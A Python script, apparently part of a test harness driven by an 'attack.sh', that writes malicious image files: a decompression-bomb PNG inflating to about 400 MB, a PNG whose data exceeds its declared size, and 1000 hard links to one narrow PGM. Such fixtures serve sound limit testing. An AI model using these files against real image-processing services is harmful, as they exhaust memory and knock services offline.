#!/usr/bin/env python3
"""Writes small picture files that need much memory into a folder. Called by attack.sh.

  attack_pictures.py FOLDER
"""
import os
import struct
import sys
import zlib


def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width, height, inflated_bytes):
    """Grey, 8 bits, all black. Has the requested number of bytes after its header, whatever the header promises."""
    compressor = zlib.compressobj(6)
    block = bytes(1 << 20)
    data = bytearray()
    for _ in range(inflated_bytes // len(block)):
        data += compressor.compress(block)
    data += compressor.compress(bytes(inflated_bytes % len(block))) + compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", bytes(data)) + chunk(b"IEND", b"")


def main(folder):
    side = 20000
    files = {
        "larger-than-allowed.png": png(side, side, side * (side + 1)),
        "more-than-its-header-says.png": png(64, 64, side * side),
    }
    for name, content in files.items():
        with open(os.path.join(folder, name), "wb") as file:
            file.write(content)
    # Many names of one file: 1000 pictures that are one pixel wide.
    narrow = os.path.join(folder, "narrow")
    os.mkdir(narrow)
    with open(os.path.join(narrow, "0.pgm"), "wb") as file:
        file.write(b"P5\n1 60000\n255\n" + bytes(60000))
    for number in range(1, 1000):
        os.link(os.path.join(narrow, "0.pgm"), os.path.join(narrow, f"{number}.pgm"))


if __name__ == "__main__":
    if len(sys.argv) != 2:
        sys.exit(__doc__)
    main(sys.argv[1])
